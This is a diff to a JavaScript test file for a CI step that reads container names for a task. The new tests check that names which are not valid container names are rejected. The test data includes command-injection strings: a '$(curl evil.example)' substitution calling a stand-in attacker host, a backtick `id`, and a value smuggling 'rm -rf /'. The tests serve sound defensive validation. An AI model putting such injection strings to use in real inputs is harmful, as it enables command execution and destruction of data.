@@ -112,6 +112,24 @@ describe('run with task-id: the container name ECI reports', () => {
     expect(texts()).toContain('Commit task t-open2 succeeded.');
   });
 
+  it.each(['$(curl evil.example)', '`id`', "app'; rm -rf / #", 'App'])(
+    'leaves out of results a name that is no container name: %s',
+    async (name) => {
+      await step({ ...INPUTS, 'task-id': 't-open2' }, listed(name));
+
+      expect(recorded.failed).toEqual([]);
+      expect(results()).toEqual([expect.objectContaining({ taskId: 't-open2', container: '' })]);
+      expect(texts()).toContain(
+        `Task t-open2 names its container ${name}, not a container name: the results leave it empty.`
+      );
+    }
+  );
+
+  it('keeps a valid container name in results', async () => {
+    await step({ ...INPUTS, 'task-id': 't-open2' }, listed('app-2'));
+    expect(results()).toEqual([expect.objectContaining({ taskId: 't-open2', container: 'app-2' })]);
+  });
+
   it('fills {container} in from a valid name, and says the image is what image-repository names', async () => {
     await step(
       { ...INPUTS, 'task-id': 't-open2', 'image-repository': REPOSITORY, 'image-tag': '{container}' },
